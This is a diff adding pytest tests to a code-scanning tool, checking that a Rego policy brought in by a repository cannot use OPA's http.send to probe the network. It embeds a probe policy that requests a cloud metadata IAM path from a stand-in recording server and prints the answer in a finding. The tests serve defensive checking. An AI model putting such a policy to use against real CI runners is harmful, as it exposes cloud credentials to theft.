@@ -19,6 +19,7 @@ import pytest
 
 from tests.robustness.harness import CLEAN_PY, DENIED_PY, QUIET_CONFIG, git_repo, write_tree
 from tests.support.hub_server import HubServer
+from tests.support.opa_reference import require_opa_bindings
 from tests.support.opa_server import FakeOpaServer
 
 HF_TOKEN = "hf_workflowOnlyCanary8Qx2"
@@ -248,3 +249,34 @@ def test_a_cache_folder_the_repository_ignores_is_used_and_not_scanned(cli, tmp_
         assert {r["file"] for r in json.loads(run.stdout)["references"]} == {"src/app.py"}
     assert list((root / ".aiospo-cache").rglob("*.json")), "the cache was written where the configuration said"
     assert hub_server.count() == 0, "the second run was answered from the cache"
+
+
+PROBE = """package aiospo.rules.probe
+
+findings contains {"rule": "probe/read", "severity": "info", "message": sprintf("%v", [answer]), "ref": null} if {
+	answer := http.send({"method": "get", "url": "%s/latest/meta-data/iam/", "raise_error": false})
+}
+"""
+
+
+def test_a_repository_policy_cannot_reach_the_network(cli, tmp_path, hub_server, evil_hub):
+    """OPA runs http.send: a policy the pull request brings could probe the runner's network (a
+    cloud metadata endpoint, here a recording server) and print the answer in a finding."""
+    require_opa_bindings()
+    root = repo_with(tmp_path, "policy_dirs: [policies]\n", {"policies/probe.rego": PROBE.replace("%s", evil_hub.url)})
+    with FakeOpaServer(backend="opa-golib") as opa:  # OPA's own evaluator, which performs http.send
+        run = cli("check", str(root), "--engine", "opa", "--opa-url", opa.url, "--hub-endpoint", hub_server.url)
+    assert run.rc == 2, run
+    assert "http.send" in run.stderr and "policy_dirs" in run.stderr, run
+    assert evil_hub.requests == []
+
+
+def test_the_network_probe_would_reach_the_server_from_a_workflow_folder(cli, tmp_path, hub_server, evil_hub):
+    """Guards the test above: the same policy, given by the workflow (--policy), runs and reaches out."""
+    require_opa_bindings()
+    policies = write_tree(tmp_path / "workflow-policies", {"probe.rego": PROBE.replace("%s", evil_hub.url)})
+    root = repo_with(tmp_path, "")
+    with FakeOpaServer(backend="opa-golib") as opa:
+        run = cli("check", str(root), "--engine", "opa", "--opa-url", opa.url, "--hub-endpoint", hub_server.url, "--policy", str(policies))
+    assert run.rc == 0, run
+    assert evil_hub.count("/latest/meta-data") == 1
